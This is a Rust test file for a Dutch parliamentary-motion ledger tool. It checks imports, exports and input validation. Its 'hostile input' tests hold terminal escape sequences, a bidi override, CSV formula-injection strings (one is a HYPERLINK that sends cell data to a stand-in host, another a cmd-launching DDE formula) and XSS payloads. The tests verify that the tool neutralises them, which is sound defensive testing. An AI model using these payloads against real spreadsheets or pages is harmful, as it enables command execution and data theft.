        ("1960-07-01", "UTC+1:00", "1960-07-01T22:59:59.999999999Z"),
        ("1941-01-15", "UTC+2:00", "1941-01-15T21:59:59.999999999Z"),
        ("1938-01-15", "UTC+0:20", "1938-01-15T23:39:59.999999999Z"),
        (
            "1930-07-01",
            "UTC+1:19:32",
            "1930-07-01T22:40:27.999999999Z",
        ),
        ("2025-07-01", "UTC+2:00", "2025-07-01T21:59:59.999999999Z"),
    ] {
        // The table names the day in words; the instant (with the
        // offset of its era) is in the JSON view.
        let out = env.run(&["overview", "--as-of", day]);
        out.ok();
        assert!(
            out.stdout.contains("\nZoals bekend op ") || out.stdout.starts_with("Zoals bekend op "),
            "{day}: {}",
            out.stdout
        );
        let j = env.json(&["overview", "--as-of", day]);
        assert_eq!(j["view"]["as_of"], instant, "{day} ({offset})");
    }
}

// ------------------------------------------- import files and exports

/// A one-page annex: a title, the header, a `Moties` section with the
/// given rows (tab-separated cells) and the footnote lines after them.
fn annex(rows: &[&str], footnotes: &[&str]) -> String {
    let mut s = String::from(
        "**Stand van zaken\nProgramma Proef\n2025**\n\n\tStatus\tVerantwoordelijk\tStand van zaken\nMoties\t\t\t\n",
    );
    for r in rows {
        s.push_str(r);
        s.push('\n');
    }
    s.push('\n');
    for f in footnotes {
        s.push_str(f);
        s.push_str("\n\n");
    }
    s
}

/// The annex rows of [`annex`] start on line 7.
const FIRST_ROW: usize = 7;

fn write_file(env: &TestEnv, name: &str, bytes: &[u8]) -> String {
    let p = env.dir.path().join(name);
    std::fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_string()
}

const ROW: &str = "Motie van het lid Jansen; De Tweede Kamer verzoekt de regering te oefenen. ¹\tIn uitvoering\tSBZK\tHet oefenen loopt.";
const NOTE_1: &str = "¹ Kamerstukken II 2024/25, 36000, nr. 5.";

/// Hostile input 5: an annex import applies the text checks the command
/// line and the CSV import apply, to every field of every row (one place,
/// `formats::ImportRow::checked`, for every format). A NUL byte, an escape
/// sequence (ESC, OSC) or a 500 KB item text refuses the import with exit
/// 2, naming the line and the field, and writes nothing; a footnote that
/// is only too long to be a citation is left out with an anomaly.
#[test]
fn an_annex_import_checks_every_field_as_the_command_line_does() {
    let env = TestEnv::init();
    let before = env.head();
    let long = format!(
        "Motie van het lid Jansen; {} ¹\tIn uitvoering\tSBZK\tLoopt.",
        "Een zeer lange motie. ".repeat(25_000)
    );
    let cases: Vec<(String, Vec<String>, &str, &str)> = vec![
        (
            ROW.replace("te oefenen", "te\u{0}oefenen"),
            vec![NOTE_1.into()],
            "text",
            "U+0000",
        ),
        (
            ROW.replace("te oefenen", "te \u{1b}[2J\u{1b}[Hoefenen"),
            vec![NOTE_1.into()],
            "text",
            "U+001B",
        ),
        (
            ROW.replace("loopt.", "loopt.\u{1b}]0;gekaapt\u{7}"),
            vec![NOTE_1.into()],
            "progress",
            "U+001B",
        ),
        (
            ROW.into(),
            vec!["¹ Kamerstukken II 2024/25, 36000, nr. 5\u{1b}[31m.".into()],
            "citations",
            "U+001B",
        ),
        (
            ROW.replace("Jansen", "Jan\u{202e}sen"),
            vec![NOTE_1.into()],
            "text",
            "bidirectional",
        ),
        (long, vec![NOTE_1.into()], "text", "at most 65536 bytes"),
    ];
    for (row, notes, field, says) in &cases {
        let notes: Vec<&str> = notes.iter().map(String::as_str).collect();
        let path = write_file(&env, "bijlage.txt", annex(&[row], &notes).as_bytes());
        for args in [&["import", &path][..], &["import", "--dry-run", &path]] {
            let out = env.run(args);
            out.refusal(
                2,
                &format!("{field} with {says}"),
                &[
                    &format!("invalid annex line {FIRST_ROW}, {field} '"),
                    says,
                    "Nothing was written.",
                ],
            );
            assert_eq!(raw_control(&out.stderr), None, "{}", out.stderr);
            assert_eq!(env.head(), before, "{field}: something was written");
        }
    }
    // The same rules for the CSV import (its reader checks the cells first).
    let path = write_file(&env, "a.csv", b"kind,text\nmotie,\"Een\x1b[2J motie.\"\n");
    env.run(&["import", &path])
        .refusal(2, "csv", &["CSV line 2, column text", "U+001B"]);
    // A footnote that is a long remark rather than a citation: the item is
    // recorded without it, and the anomaly says so.
    let remark = format!(
        "¹ Zie {}",
        "de brief over de voortgang van het oefenen ".repeat(6)
    );
    let path = write_file(&env, "bijlage.txt", annex(&[ROW], &[&remark]).as_bytes());
    let out = env.run(&["import", &path]);
    out.ok();
    assert!(
        out.stdout.contains(&format!(
            "line {FIRST_ROW}: citations: 'Zie de brief over de voortgang"
        )) && out.stdout.contains("at most 200 bytes are accepted"),
        "{}",
        out.stdout
    );
    let item = &env.json(&["export"])["items"][0];
    assert_eq!(item["citations"], serde_json::json!([]), "{item}");
    assert_eq!(
        item["text"],
        "Motie van het lid Jansen; De Tweede Kamer verzoekt de regering te oefenen."
    );
}

/// Hostile input 6, the import's own report: the file's name (and what an
/// anomaly quotes of it) is shown through `text::visible`, in a dry run and
/// a real one.
#[test]
fn the_import_report_shows_the_file_name_escaped() {
    let env = TestEnv::init();
    let path = write_file(
        &env,
        "bijlage\u{1b}]0;gekaapt\u{7}\u{1b}[2J.txt",
        annex(&[ROW], &[NOTE_1]).as_bytes(),
    );
    for args in [&["import", "--dry-run", &path][..], &["import", &path]] {
        let out = env.run(args);
        out.ok();
        assert_eq!(raw_control(&out.stdout), None, "{}", out.stdout);
        assert!(
            out.stdout
                .contains("bijlage\\u{1b}]0;gekaapt\\u{7}\\u{1b}[2J.txt (annex)"),
            "{}",
            out.stdout
        );
    }
}

/// Items whose texts start the way spreadsheet formulas do, as a clerk (or
/// someone who wants a clerk's spreadsheet to run a command) could type
/// them.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://voorbeeld.invalid/?\"&A1,\"Klik\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'=al gequote",
    "''+twee quotes",
    "Gewoon = geen formule",
];

/// Hostile input 7: `export --format csv` puts a single quote before every
/// cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, tab,
/// carriage return), and the CSV import takes exactly that quote off again:
/// the export imported into a new store gives the same texts.
#[test]
fn csv_export_neutralises_formulas_and_the_import_reads_them_back() {
    let env = TestEnv::init();
    for (n, text) in FORMULAS.iter().enumerate() {
        let key = format!("M{}", n + 1);
        // (`--text=…`: a value that starts with '-' is no flag.)
        env.add(&[
            "--kind",
            "motie",
            "--key",
            &key,
            &format!("--text={text}"),
            &format!("--submitter={text}"),
            &format!("--ref-raw={text}"),
        ]);
        env.run(&["note", &key, "--", text]).ok();
    }
    let csv = env.run(&["--format", "csv", "export"]);
    csv.ok();
    let mut reader = ::csv::Reader::from_reader(csv.stdout.as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    for text in FORMULAS {
        let guarded = if text
            .trim_start_matches('\'')
            .starts_with(['=', '+', '-', '@'])
        {
            format!("'{text}")
        } else {
            text.to_string()
        };
        assert!(
            csv.stdout.contains(&guarded.replace('"', "\"\"")),
            "{guarded}:\n{}",
            csv.stdout
        );
    }
    // Read back by our own import: the same texts, submitters, citations
    // and notes.
    let other = TestEnv::init();
    let path = write_file(&other, "terug.csv", csv.stdout.as_bytes());
    other.run(&["import", &path]).ok();
    let strip = |v: serde_json::Value| -> Vec<serde_json::Value> {
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| {
                serde_json::json!([
                    i["key"],
                    i["text"],
                    i["submitters"],
                    i["citations"],
                    i["latest_note"]["text"]
                ])
            })
            .collect()
    };
    let theirs = strip(other.json(&["export"]));
    assert_eq!(theirs, strip(env.json(&["export"])));
    assert_eq!(theirs[0][1], FORMULAS[0]);
    assert_eq!(theirs[0][3][0]["raw"], FORMULAS[0]);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig {
        cases: 256,
        failure_persistence: None,
        ..proptest::prelude::ProptestConfig::default()
    })]

    /// Hostile input 7, as a property: any text the ledger can hold comes
    /// back from a CSV export through the CSV import as it went out, in
    /// every text column, however it starts.
    #[test]
    fn any_text_survives_a_csv_round_trip(
        raw in "(?s)['=+@\\-\t\r \"]{0,3}.{0,40}",
        short in "['=+@\\-]{0,3}[^\\p{C}]{1,20}",
    ) {
        use kamerstand::domain::text::{free_text, short_text};
        let Ok(text) = free_text("text", &raw) else { return Ok(()) };
        let Ok(name) = short_text("name", &short) else { return Ok(()) };
        let view = one_item_view(&text, &name);
        let mut out = Vec::new();
        kamerstand::formats::csv::write(&view, &mut out).unwrap();
        let csv = String::from_utf8(out).unwrap();
        let (rows, anomalies) =
            kamerstand::formats::csv::read(&csv, &kamerstand::domain::Legend::nap()).unwrap();
        proptest::prop_assert!(anomalies.is_empty());
        let r = &rows[0];
        proptest::prop_assert_eq!(&r.text, &text);
        proptest::prop_assert_eq!(r.progress.as_deref(), Some(text.as_str()));
        proptest::prop_assert_eq!(&r.submitters, &vec![name.clone()]);
        proptest::prop_assert_eq!(&r.citations, &vec![name.clone()]);
        proptest::prop_assert_eq!(&r.progress_citations, &vec![name]);
    }
}

/// A view of one motion with `text` as its text and note, `name` as its
/// submitter and citations.
fn one_item_view(text: &str, name: &str) -> kamerstand::projection::View {
    use kamerstand::projection::view::{ChainAt, Programme};
    use kamerstand::projection::{Basis, ItemView, NoteView, View};
    let day = Day::parse("d", "2025-01-02").unwrap();
    View {
        basis: Basis::Current,
        effective: None,
        filter: None,
        programme: Programme {
            name: "NAP".into(),
            title: "Stand".into(),
            legend: kamerstand::domain::Legend::nap(),
        },
        chain: ChainAt::default(),
        rounds: Vec::new(),
        items: vec![ItemView {
            id: EventId([1; 16]),
            registered_seq: 1,
            key: kamerstand::domain::ItemKey::parse("M1").unwrap(),
            kind: ItemKind::Motie,
            text: text.into(),
            submitters: vec![name.into()],
            citations: vec![name.into()],
            effective: day,
            withdrawn: false,
            exists: true,
            status: "in-uitvoering".into(),
            responsible: Responsible::none(),
            note: Some(NoteView {
                seq: 2,
                effective: day,
                recorded_at: Timestamp::from_unix_nanos(0),
                actor: "clerk".into(),
                text: text.into(),
                citations: vec![name.into()],
            }),
            tally: Default::default(),
            deadline: None,
            made_on: None,
            made_in: None,
            previous_responsible: None,
        }],
    }
}

/// Texts that would be live in rendered Markdown if passed on as they are.
const ACTIVE: [&str; 8] = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![beeld](http://voorbeeld.invalid/x.png)",
    "&#x3C;script&#x3E;",
    "# kop\n> citaat\n- lijst\n1. genummerd\n---\n| a | b |",
    "**vet** _schuin_ `code` ~~weg~~ <b>vet</b>",
];

/// Renders Markdown as CommonMark with GitHub's tables and strike-through,
/// and returns the HTML.
fn rendered(md: &str) -> String {
    use pulldown_cmark::{Options, Parser, html};
    let mut out = String::new();
    html::push_html(
        &mut out,
        Parser::new_ext(md, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH),
    );
    out
}

/// The HTML elements rendered Markdown of ours may hold: what our own
/// layout makes (headings, the tables, the legend list, the view line in
/// italics, the diff's lists and quotes, keys in bold, `<br>` between
/// paragraphs of a cell). Nothing a stored text says may add another.
fn elements(html: &str) -> std::collections::BTreeSet<String> {
    let mut out = std::collections::BTreeSet::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let tag: String = rest[at + 1..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '/')
            .collect();
        out.insert(tag.trim_start_matches('/').to_string());
        rest = &rest[at + 1..];
    }
    out
}

/// Hostile input 8: the Markdown exports (`export --format md`, `diff
/// --format md`) escape stored text: rendered by a CommonMark renderer,
/// no raw HTML, link, image, autolink, heading, quote or list of a stored
/// text survives, and every text shows as it was typed.
#[test]
fn markdown_exports_render_stored_text_as_text() {
    let env = TestEnv::init();
    env.run(&["round", "seal", "R1"]).ok();
    for (n, text) in ACTIVE.iter().enumerate() {
        let key = format!("M{}", n + 1);
        env.add(&[
            "--kind",
            "motie",
            "--key",
            &key,
            "--text",
            text,
            "--ref-raw",
            &text.replace('\n', " "),
        ]);
        env.run(&["note", &key, text]).ok();
    }
    let annex = env.run(&["--format", "md", "export"]);
    annex.ok();
    let diff = env.run(&["--format", "md", "diff", "R1", "now", "--events"]);
    diff.ok();
    for (what, md, allowed) in [
        (
            "export",
            &annex.stdout,
            &[
                "h1", "h2", "p", "em", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
                "strong", "br", "hr",
            ][..],
        ),
        (
            "diff",
            &diff.stdout,
            &[
                "h1",
                "h2",
                "h3",
                "p",
                "ul",
                "li",
                "strong",
                "blockquote",
                "br",
                "hr",
            ][..],
        ),
    ] {
        let html = rendered(md);
        let found = elements(&html);
        let extra: Vec<&String> = found
            .iter()
            .filter(|e| !allowed.contains(&e.as_str()))
            .collect();
        assert!(extra.is_empty(), "{what}: elements {extra:?} in\n{html}");
        for bad in ["<script", "<img", "href=", "<a ", "<b>", "<code", "<del"] {
            assert!(!html.contains(bad), "{what}: {bad} in\n{html}");
        }
        for shown in [
            "&lt;script&gt;alert('x')&lt;/script&gt;",
            "&lt;img src=x onerror=alert(1)&gt;",
            "[klik](javascript:alert(1))",
            "&lt;javascript:alert(1)&gt;",
            "&amp;#x3C;script&amp;#x3E;",
            "**vet** _schuin_ `code` ~~weg~~ &lt;b&gt;vet&lt;/b&gt;",
        ] {
            assert!(
                html.contains(shown),
                "{what}: {shown} not shown as text in\n{html}"
            );
        }
    }
    // In the annex's table, every row is one row of four cells.
    let rows = rendered(&annex.stdout).matches("<tr>").count();
    assert_eq!(rows, ACTIVE.len() + 1, "{}", annex.stdout);
}

/// Hostile input 10: the import's path is linear. The curve (1, 10 and
/// 100 MB annexes against reading the file) is the benchmark's
/// `annexcurve` section (no test asserts time); this holds what the linear
/// planner must still do with many rows that lost their text: matched to
/// the items that lack it by position, every one, on a second import.
#[test]
fn many_rows_without_text_are_matched_by_position_on_a_second_import() {
    let env = TestEnv::init();
    let rows: Vec<String> = (0..600)
        .map(|n| format!("\tIn uitvoering\tSBZK\tStand {n}."))
        .collect();
    let refs: Vec<&str> = rows.iter().map(String::as_str).collect();
    let path = write_file(&env, "a.txt", annex(&refs, &[]).as_bytes());
    env.run(&["import", &path]).ok();
    // The next annex: every progress text changed, so none is matched by
    // its text, and all by their places.
    let next: Vec<String> = (0..600)
        .map(|n| format!("\tIn uitvoering\tSBZK\tStand {n}, later."))
        .collect();
    let refs: Vec<&str> = next.iter().map(String::as_str).collect();
    let path = write_file(&env, "b.txt", annex(&refs, &[]).as_bytes());
    let out = env.run(&["import", &path]);
    out.ok();
    assert!(
        out.stdout.contains("600 rows; 0 items added, 600 changed"),
        "{}",
        out.stdout
    );
    let list = env.json(&["export"]);
    for (n, item) in list["items"].as_array().unwrap().iter().enumerate() {
        assert_eq!(item["key"], format!("M{}", n + 1));
        assert_eq!(item["latest_note"]["text"], format!("Stand {n}, later."));
    }
}

/// A ledger with `n` motions whose texts are long enough that every export
/// and most listings are far larger than a pipe's buffer.
fn large_ledger(n: usize) -> TestEnv {
    let env = TestEnv::init();
    let mut csv = String::from("kind,key,text,progress\n");
    for i in 1..=n {
        csv.push_str(&format!(
            "motie,M{i},\"{}\",\"{}\"\n",
            "Een motie met een lange tekst. ".repeat(12),
            "Een notitie. ".repeat(10)
        ));
    }
    let path = write_file(&env, "groot.csv", csv.as_bytes());
    env.run(&["import", &path]).ok();
    env
}

/// Hostile input 12, a reader that goes away: every command whose output is
/// piped into a reader that closes early (`… | head`) ends quietly with
/// exit 0, through the real binary; `export --format events` and `--format
/// csv` used to end with exit 1 and "storage failed".
#[cfg(unix)]
#[test]
fn a_reader_that_closes_the_pipe_early_ends_every_command_quietly() {
    use std::io::Read;
    let env = large_ledger(400);
    for args in [
        &["--format", "events", "export"][..],
        &["--format", "csv", "export"],
        &["--format", "md", "export"],
        &["--format", "html", "export"],
        &["--format", "json", "export"],
        &["log"],
        &["--format", "json", "log"],
        &["item", "list"],
        &["overview"],
    ] {
        let mut child = env.command(args).spawn().unwrap();
        let mut head = [0u8; 16];
        child.stdout.take().unwrap().read_exact(&mut head).unwrap();
        // The reading end is closed here, with most of the output unread.
        let status = wait_for(&mut child);
        let stderr = read_all(child.stderr.take());
        assert_eq!(status.code(), Some(0), "{args:?}: {stderr}");
        assert_eq!(stderr, "", "{args:?}");
    }
}

/// Hostile input 12: an events file that starts with a UTF-8 byte-order
/// mark (as Windows tools write) restores like one without it.
#[test]
fn an_events_file_with_a_byte_order_mark_is_restored() {
    let source = TestEnv::init();
    source.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let dump = source.run(&["--format", "events", "export"]);
    dump.ok();
    let target = TestEnv::new();
    let path = write_file(
        &target,
        "bom.jsonl",
        format!("\u{feff}{}", dump.stdout).as_bytes(),
    );
    // Detected from the file and from standard input, and named.
    target.run(&["import", &path]).ok();
    assert_eq!(target.head(), source.head());
    let piped = TestEnv::new();
    piped
        .run_with_input(
            &["import", "-"],
            format!("\u{feff}{}", dump.stdout).as_bytes(),
        )
        .ok();
    assert_eq!(piped.head(), source.head());
    let named = TestEnv::new();
    named.run(&["--format", "events", "import", &path]).ok();
    assert_eq!(named.head(), source.head());
}

/// Hostile input 12: CSV files with Windows line endings (what Excel
/// writes) are named by the lines an editor shows, also after a quoted
/// cell over two lines and with lone carriage returns.
#[test]
fn csv_errors_name_the_right_line_whatever_the_line_endings() {
    let env = TestEnv::init();
    for (name, text, line) in [
        (
            "lf.csv",
            "kind,text,status\nmotie,Een,in-uitvoering\nmotie,Twee,klaar\n",
            3,
        ),
        (
            "crlf.csv",
            "kind,text,status\r\nmotie,Een,in-uitvoering\r\nmotie,Twee,klaar\r\n",
            3,
        ),
        (
            "twee-regels.csv",
            "kind,text,status\r\nmotie,\"Een\r\nlang\",in-uitvoering\r\nmotie,Twee,klaar\r\n",
            4,
        ),
        (
            "cr.csv",
            "kind,text,status\rmotie,Een,in-uitvoering\rmotie,Twee,klaar\r",
            3,
        ),
    ] {
        let path = write_file(&env, name, text.as_bytes());
        env.run(&["import", &path]).refusal(
            2,
            name,
            &[&format!("invalid CSV line {line}, column status 'klaar'")],
        );
    }
    let path = write_file(
        &env,
        "kort.csv",
        b"kind,text,status\r\nmotie,Een,in-uitvoering\r\nmotie,Twee\r\n",
    );
    env.run(&["import", &path]).refusal(
        2,
        "short",
        &["invalid CSV line 3 'a record of 2 fields': 3 fields as in the header"],
    );
}

/// Hostile input 12: a CSV file saved as Windows-1252 ("CSV" in Excel,
/// not "CSV UTF-8") is named as such, by the line of its first such byte
/// and the character it stands for, with how to save it as UTF-8; bytes
/// that are no text keep the plain message.
#[test]
fn a_windows_1252_csv_is_named_with_how_to_save_it_as_utf8() {
    let env = TestEnv::init();
    let path = write_file(
        &env,
        "excel.csv",
        b"kind;key;text\r\nmotie;M5;Een motie\r\nmotie;M6;Caf\xe9 \x80 5\r\n",
    );
    env.run(&["import", &path]).refusal(
        2,
        "cp1252",
        &[
            "looks like Windows-1252 (Latin-1)",
            "line 3 has byte 0xE9, 'é' in Windows-1252",
            "CSV UTF-8",
        ],
    );
    let path = write_file(&env, "junk.csv", b"kind,text\nmotie,\x00\xff\xfe\n");
    env.run(&["import", &path])
        .refusal(2, "junk", &["UTF-8 text (byte 17 is not)"]);
}

/// Hostile input 12: dates as a Dutch spreadsheet saves them (`15-5-2025`,
/// `01-12-2024`) are read; a date that cannot be read (ambiguous: slashes
/// or a two-digit year; no such day; out of range; no date) is an anomaly
/// of its row, which is read as if the cell were empty, instead of a
/// refusal of the whole file.
#[test]
fn dutch_dates_are_read_and_bad_ones_named_by_row() {
    let env = TestEnv::init();
    let path = write_file(
        &env,
        "nl.csv",
        b"kind,key,text,effective,progress,progress_effective\n\
motie,M1,Een,15-5-2025,Loopt,01-12-2024\n\
motie,M2,Twee,2024-06-01,Ook,5/6/2025\n\
motie,M3,Drie,15-5-25,,\n\
motie,M4,Vier,31-02-2025,,\n\
motie,M5,Vijf,1899-12-31,,\n\
motie,M6,Zes,morgen,,\n",
    );
    let out = env.run(&["import", "--effective", "2025-01-03", &path]);
    out.ok();
    for (line, says) in [
        (3, "column progress_effective: '5/6/2025' is ambiguous"),
        (
            4,
            "column effective: '15-5-25' is ambiguous: its year has two digits",
        ),
        (
            5,
            "column effective: '31-02-2025' is not a day in the calendar",
        ),
        (
            6,
            "column effective: '1899-12-31' is not a day between 1900-01-01 and 2999-12-31",
        ),
        (7, "column effective: 'morgen' is not a date"),
    ] {
        assert!(
            out.stdout.contains(&format!("line {line}: {says}")),
            "{line}: {}",
            out.stdout
        );
    }
    // And the finding about the whole file: no row states a status.
    assert!(out.stdout.contains("6 anomalies"), "{}", out.stdout);
    assert!(
        out.stdout.contains("file: no row states a status"),
        "{}",
        out.stdout
    );
    let shown = |key: &str| env.json(&["show", key]);
    let eff = |key: &str| shown(key)["timeline"][0]["effective"].clone();
    assert_eq!(eff("M1"), "2025-05-15");
    assert_eq!(shown("M1")["latest_note"]["effective"], "2024-12-01");
    assert_eq!(eff("M2"), "2024-06-01");
    // Read as if empty: the row's own date, else the import's.
    assert_eq!(shown("M2")["latest_note"]["effective"], "2024-06-01");
    for key in ["M3", "M4", "M5", "M6"] {
        assert_eq!(eff(key), "2025-01-03", "{key}");
    }
}
